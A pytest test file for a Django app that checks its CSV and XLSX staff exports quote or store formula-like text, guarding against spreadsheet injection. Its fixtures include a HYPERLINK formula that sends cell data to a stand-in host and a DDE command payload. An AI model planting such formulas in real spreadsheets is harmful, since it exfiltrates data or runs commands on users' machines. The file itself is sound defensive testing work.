"""Text from outside never runs as a formula in a staff export (core.exports; OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from core.exports import csv_row, xlsx_append
from entities.models import Entity, LegalForm

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")'


@pytest.mark.parametrize("text", [HOSTILE, "+48 600 100 200", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_would_start_a_formula_are_quoted(text):
    assert csv_row([text, 5, None]) == ["'" + text, 5, None]


def test_a_quoted_cell_reads_back_as_the_original():
    from core.exports import csv_uncell

    assert csv_uncell(csv_row([HOSTILE])[0]) == HOSTILE
    assert csv_uncell("'apostrof na początku") == "'apostrof na początku"


def test_ordinary_text_and_numbers_are_left_alone():
    assert csv_row(["Fundacja „Razem”", -5, 2.5]) == ["Fundacja „Razem”", -5, 2.5]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_is_text_whatever_it_starts_with(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x")
    xlsx_append(sheet, [HOSTILE, "zwykły tekst", 7])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = load_workbook(io.BytesIO(buffer.getvalue()))["x"][1]
    assert cells[0].data_type == "s"
    assert cells[0].value == HOSTILE       # kept exactly, so the export re-imports as it was
    assert cells[0].quotePrefix
    assert cells[1].quotePrefix is False
    assert cells[2].data_type == "n"


def _entity():
    return Entity.objects.create(name=HOSTILE, legal_form=LegalForm.FOUNDATION)


def test_the_registry_csv_export_quotes_a_hostile_name(client_for, staff):
    _entity()
    response = client_for(staff).get(reverse("entities:list"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text), delimiter=";")][1:]
    assert names == ["'" + HOSTILE]


def test_the_registry_xlsx_export_writes_a_hostile_name_as_text(client_for, staff):
    _entity()
    response = client_for(staff).get(reverse("entities:list"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == HOSTILE
    assert cell.data_type == "s"


def test_the_consultation_report_quotes_a_hostile_comment(client_for, staff):
    from programmes.models import ConsultationComment
    from programmes.tests.factories import ProgrammeFactory

    programme = ProgrammeFactory()
    ConsultationComment.objects.create(programme=programme, text="@SUM(1+1)*cmd", author="=2+5",
                                       consent_at=timezone.now())
    response = client_for(staff).get(reverse("programmes:consultation_report", args=[programme.pk]))
    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1]
    assert row[2] == "'=2+5"
    assert row[4] == "'@SUM(1+1)*cmd"


def test_the_participants_spreadsheet_writes_a_hostile_name_as_text(client_for, staff,
                                                                     django_capture_on_commit_callbacks):
    from core.models import Job
    from events.tests.factories import RegistrationFactory

    registration = RegistrationFactory(first_name="=cmd|' /C calc'!A0", institution=HOSTILE)
    with django_capture_on_commit_callbacks(execute=True):
        client_for(staff).post(reverse("events:participants_job", args=[registration.event_id,
                                                                         "events_participants_xlsx"]))
    job = Job.objects.get()
    sheet = load_workbook(io.BytesIO(job.result.read())).active
    values = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert values[HOSTILE].data_type == "s"
    assert all(cell.data_type != "f" for cell in values.values())
